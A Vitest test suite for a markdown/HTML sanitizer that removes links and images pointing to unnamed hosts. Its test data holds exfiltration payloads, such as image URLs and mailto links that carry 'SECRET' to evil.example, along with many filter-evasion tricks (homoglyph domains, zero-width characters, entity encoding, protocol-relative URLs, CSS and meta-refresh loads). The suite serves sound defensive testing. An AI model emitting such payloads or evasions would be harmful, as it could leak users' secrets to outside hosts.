import { describe, expect, it } from 'vitest';
import { shown, shownOf } from './checked.js';

const gone = '(link removed: evil[.]example)';

describe('links and images to hosts that nobody named', () => {
  it.each([
    ['![x](https://evil.example/p?q=SECRET)', '![x] (image removed: evil[.]example)'],
    ['![x](<https://evil.example/p q> "t")', '![x] (image removed: evil[.]example)'],
    ['![x](//evil.example/p)', '![x] (image removed: evil[.]example)'],
    ['![x](data:image/png;base64,AAAA)', '![x] (image removed)'],
    [
      '[![x](https://evil.example/a)](https://good.example/b)',
      '[![x] (image removed: evil[.]example)](https://good.example/b)',
    ],
    ['[a][1]\n\n[1]: https://evil.example/p', `[a][1]\n\n[1]: ${gone}`],
    ['[a][1]\n\n[1]:\n  <//evil.example/p>', `[a][1]\n\n[1]:\n  ${gone}`],
    ['[words](https://evil.example/p "title")', `[words] ${gone}`],
    ['[words](  https://evil.example/(p)  )', `[words] ${gone}`],
    ['[words](//evil.example/p)', `[words] ${gone}`],
    ['[words](/\\evil.example/p)', `[words] ${gone}`],
    ['[words](javascript:alert`1`)', '[words] (link removed)'],
    ['[words](data:text/html,x)', '[words] (link removed)'],
    ['[words](mailto:a@evil.example?body=SECRET)', `[words] ${gone}`],
    ['[https://good.example](https://evil.example/p)', `[https://good.example] ${gone}`],
    ['<https://evil.example/p>', gone],
    ['<https://evil.example/p|words>', `${gone}words>`],
    ['<img src="https://evil.example/p">', '(image removed: evil[.]example)'],
    ["<img alt='>' src=//evil.example/p>", '(image removed: evil[.]example)'],
    ['<IMG\n srcset="a.png 1x, https://evil.example/p 2x">', '(image removed: evil[.]example)'],
    ['<a href="https://evil.example/p">words</a>', `${gone}words</a>`],
    ['<meta http-equiv="refresh" content="0;url=//evil.example/p">', '(image removed: evil[.]example)'],
    ['<p style="background:url(//evil.example/p)">', '(image removed: evil[.]example)'],
    ['@import "//evil.example/p.css"', `@import "${gone}"`],
    ['mailto:a@evil.example', gone],
    ['see https://evil.example/p?q=1, then', `see ${gone}, then`],
    ['(https://evil.example/p)', `(${gone})`],
    ['HTTPS://EVIL.EXAMPLE/P', gone],
    ['https://good.example@evil.example/p', gone],
    ['https://good.example.evil.example/p', gone],
    ['https://аррle.com/p', '(link removed: xn--le-6kc8da[.]com)'],
    ['https://evil。example/p', `${gone.replace('evil[.]example', 'evil')}。example/p`],
    ['https\\://evil.example/p', gone],
    ['https&#58;&sol;/evil.example/p', gone],
    ['ht\u200btps://evil.example/p', gone],
    ['evil.example/p?q=1', `evil ${gone}`],
    ['www.evil.example', `www ${gone}`],
    ['evil.software/SECRET', 'evil (link removed: evil[.]software)'],
    ['SECRET.evil.lol', 'SECRET (link removed: evil[.]lol)'],
    ['SECRET.evil.ua', 'SECRET (link removed: evil[.]ua)'],
    ['пример.рф/p', 'пример (link removed: xn--e1afmkfd[.]xn--p1ai)'],
    ['1.2.3.4/SECRET', '1 (link removed: 3[.]4)'],
    ['ASP.NET/SECRET', 'ASP (link removed: asp[.]net)'],
    ['ftp://evil.example/p', gone],
    ['`not closed https://evil.example/p', `\`not closed ${gone}`],
    ['`\\` https://evil.example/p `', `\`\\\` ${gone} \``],
    ['- `a\n- https://evil.example/p `', `- \`a\n- ${gone} \``],
    ['<div>\n```\nhttps://evil.example/p\n```', `<div>\n\`\`\`\n${gone}\n\`\`\``],
    ['text ``` https://evil.example/p', `text \`\`\` ${gone}`],
    ['    ```\nhttps://evil.example/p', `    \`\`\`\n${gone}`],
  ])('[act.55] %j', (text, right) => {
    expect(shown(text)).toBe(right);
  });

  it('[act.55] says what it has stopped, without what was in it', () => {
    const { found } = shownOf(['![x](https://evil.example/p?q=SECRET) and https://other.example']);
    expect(found.map(({ check, what }) => [check, what])).toEqual([
      ['images', 'evil.example'],
      ['links', 'other.example'],
    ]);
  });

  it.each([
    'See https://good.example/a?b=c#d, and [the page](https://www.good.example/x "t").',
    '[1]: https://docs.good.org/x',
    '![a](https://pictures.example/a.png)',
    'https://good.example/login?next=https://evil.example/',
    'Use `https://evil.example/p` and\n```js\nfetch("https://evil.example/p");\n```\ndone.',
    'Node.js, README.md, index.html, System.IO, java.io.File, 3.14.1, e.g. U.S., v1.2.3-beta.4, main.py, a.b.c',
    'src/checks/links.ts and ./docs/a.md, C:\\Users\\x, 10:30, key:value, a::b, // comment',
    'Array<string> x < y && z > 3, <b>bold</b>, [x] [ ] - [a](#here) [b](page.html) [c]: note',
    'mail ana@good.example.',
    'ASP.NET and VB.NET, 10.0.0.0/8, 1.2.3.4, document.body.style, a.list.show, README.md/CHANGELOG.md, lib.x.rs',
    'It is done.In addition.It is well.',
    'call [me](tel:+49123)',
    '||spoiler|| <:emoji:1> </cmd:1> https://good.example|words',
  ])('[act.60] leaves as it is: %j', (text) => {
    expect(shown(text)).toBe(text);
  });
});
